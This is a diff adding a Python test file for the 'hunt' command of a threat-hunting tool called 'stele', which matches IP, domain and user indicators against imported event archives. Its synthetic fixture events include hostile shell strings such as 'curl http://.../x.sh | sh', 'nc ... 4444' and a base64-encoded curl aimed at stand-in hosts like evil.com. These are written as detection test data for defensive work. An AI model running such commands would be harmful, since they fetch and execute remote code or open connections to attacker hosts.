@@ -1,0 +1,136 @@
+"""stele hunt: finds what a slow matcher, written apart, finds, and no more; says what it looked at."""
+import base64
+import gzip
+import ipaddress
+import json
+import os
+import random
+import re
+
+from stele_tool import expect, expect_error, main
+
+ADDRESSES = ["203.0.113.9", "93.180.71.3", "3.180.71.3", "10.0.0.1", "10.0.0.10", "198.51.100.7"]
+NAMES = ["evil.com", "notevil.com", "x.evil.com", "evil.com.au", "deploy.example.org", "example.org"]
+USERS = ["alice", "bob@evil.com", "carol"]
+
+
+def make_event(draw, number):
+    address, name = draw.choice(ADDRESSES), draw.choice(NAMES)
+    event = {"event": "session.command", "uid": f"hunt-{number}", "user": draw.choice(USERS),
+             "time": f"2026-10-{1 + number % 9:02d}T00:00:{number % 60:02d}Z",
+             "addr.remote": f"{draw.choice(ADDRESSES)}:{draw.randint(1024, 65535)}"}
+    shell = [f"curl http://{address}/x.sh | sh", f"ping -c1 {name}", f"ssh {name}:22", "ls -la",
+             f"wget https://{name}/a?b={address}", f"nc {address} 4444",
+             "echo " + base64.b64encode(f"curl http://{address}:80/ ".encode()).decode()]
+    event["argv"] = ["-c", draw.choice(shell)]
+    return event
+
+
+def texts(value):
+    if isinstance(value, dict):
+        for inner in value.values():
+            yield from texts(inner)
+    elif isinstance(value, list):
+        for inner in value:
+            yield from texts(inner)
+    elif isinstance(value, str):
+        yield value
+        for run in re.findall(r"[A-Za-z0-9+/]{12,}", value):
+            try:
+                yield base64.b64decode(run + "=" * (-len(run) % 4)).decode("ascii")
+            except ValueError:
+                pass
+
+
+def slow_match(event, indicator):
+    """Obvious and slow: by regular expressions over every text of the event."""
+    if indicator.startswith("user:"):
+        return event["user"] == indicator[5:]
+    for text in texts(event):
+        if re.match(r"^[0-9./]+$", indicator):
+            net = ipaddress.ip_network(indicator)
+            for found in re.findall(r"(?<![\w.])\d+\.\d+\.\d+\.\d+(?![\w.])", text):
+                if ipaddress.ip_address(found) in net:
+                    return True
+        elif re.search(r"(?<![\w.-])([\w-]+\.)*" + re.escape(indicator) + r"(?![\w.-])", text):
+            return True
+    return False
+
+
+def the_same_as_a_slow_matcher(place):
+    draw = random.Random(7)
+    events = [make_event(draw, number) for number in range(3000)]
+    place.stele("init", "a")
+    lines = "".join(json.dumps(event) + "\n" for event in events).encode()
+    expect(place.stele("import", "--archive", "a", "-", stdin=lines).code == 0, "import")
+    indicators = ADDRESSES + ["10.0.0.0/8", "203.0.113.0/28"] + NAMES + ["user:alice"]
+    result = place.stele("hunt", "--archive", "a", "--events", "-",
+                         stdin="\n".join(indicators).encode())
+    expect(result.code == 0, result.text())
+    found = set()
+    for line in result.out.splitlines():
+        hit = json.loads(line)
+        expect(hit["event"]["uid"] == hit["uid"], line)
+        pair = (hit["indicator"], hit["uid"])
+        expect(pair not in found, f"{pair} twice")
+        found.add(pair)
+    wanted = {(i, e["uid"]) for e in events for i in indicators if slow_match(e, i)}
+    expect(found == wanted, f"missed {sorted(wanted - found)[:5]}, wrong {sorted(found - wanted)[:5]}")
+    table = place.stele("hunt", "--archive", "a", "--output", "ndjson", "-",
+                        stdin="\n".join(indicators).encode())
+    counts = {row["indicator"]: row["events"] for row in map(json.loads, table.out.splitlines())}
+    expect(sum(counts.values()) == len(wanted), f"{counts}")
+
+
+def says_what_it_looked_at(place):
+    place.stele("init", "a")
+    events = [{"event": "x", "uid": str(i), "time": f"2026-10-{day:02d}T12:00:00Z", "user": "eve"}
+              for i, day in enumerate((1, 2, 5))]
+    lines = "".join(json.dumps(event) + "\n" for event in events).encode() + b"broken\n"
+    place.stele("import", "--archive", "a", "-", stdin=lines)
+    result = place.stele("hunt", "--archive", "a", "--output", "json", "--unseen", "-",
+                         stdin=b"user:eve\n9.9.9.9\nco.uk\n")
+    expect(result.code == 0 and b"standard input:3: co.uk: a public suffix" in result.err, result.text())
+    report = json.loads(result.out)
+    coverage = report["coverage"]
+    expect((coverage["events"], coverage["days"], coverage["quarantined"]) == (3, 3, 1), coverage)
+    expect(coverage["gaps"] == [{"from": "2026-10-03", "days": 2}], coverage)
+    rows = {row["indicator"]: row for row in report["indicators"]}
+    expect(rows["user:eve"]["events"] == 3 and rows["9.9.9.9"]["events"] == 0, rows)
+    expect(rows["user:eve"]["first_seen"] == "2026-10-01T12:00:00Z", rows)
+    again = place.stele("hunt", "--archive", "a", "--output", "json", "-", stdin=b"9.9.9.9")
+    expect(again.code == 1, "nothing found is 1")
+    expect(json.loads(again.out)["coverage"]["sha256"] == coverage["sha256"], "the same was searched")
+    part = place.stele("hunt", "--archive", "a", "--from", "2026-10-02", "--output", "csv", "-",
+                       stdin=b"user:eve")
+    expect(part.out.split(b"\r\n")[1].startswith(b'"standard input","user:eve",user,2,2026-10-02T'), part.text())
+
+
+def lists_of_many_kinds(place):
+    place.stele("init", "a")
+    event = {"event": "x", "uid": "1", "time": "2026-10-01T00:00:00Z", "addr.remote": "9.9.9.9:1"}
+    place.stele("import", "--archive", "a", "-", stdin=json.dumps(event).encode())
+    for name, data in (("plain", b"# c\r\n9[.]9[.]9[.]9\r\n"), ("wide", "9.9.9.9".encode("utf-16")),
+                       ("zipped", gzip.compress(b"9.9.9.9\n")),
+                       ("csv", b"date,type,value,ref\n1,ip-dst,9.9.9.9,http://feed.example/1\n"),
+                       ("long", b"x" * 10_000_000 + b"\n9.9.9.9\n")):
+        with open(place.path(name), "wb") as f:
+            f.write(data)
+        result = place.stele("hunt", "--archive", "a", "--output", "ndjson", name)
+        expect(result.code == 0, f"{name}: {result.text()[:300]}")
+        expect(json.loads(result.out)["kind"] == "ip", result.out)
+
+
+def wrong_use(place):
+    place.stele("init", "a")
+    expect_error(place.stele("hunt", "--archive", "a"), 2, "wants a list")
+    expect_error(place.stele("hunt", "--archive", "a", "nosuch"), 3, "nosuch")
+    expect_error(place.stele("hunt", "--archive", "a", "-", "--output", "xml"), 2, "xml")
+    expect_error(place.stele("hunt", "--archive", "a", "-", stdin=b""), 3, "no indicator")
+    expect_error(place.stele("hunt", "--archive", "a", "-", stdin=b'{"a":1}'), 3, "JSON")
+    expect_error(place.stele("hunt", "--archive", "a", "-", "--query", "(", stdin=b"1.1.1.1"), 2,
+                 "character")
+    expect(not os.path.exists(place.path("nosuch")), "nothing made")
+
+
+main(the_same_as_a_slow_matcher, says_what_it_looked_at, lists_of_many_kinds, wrong_use)
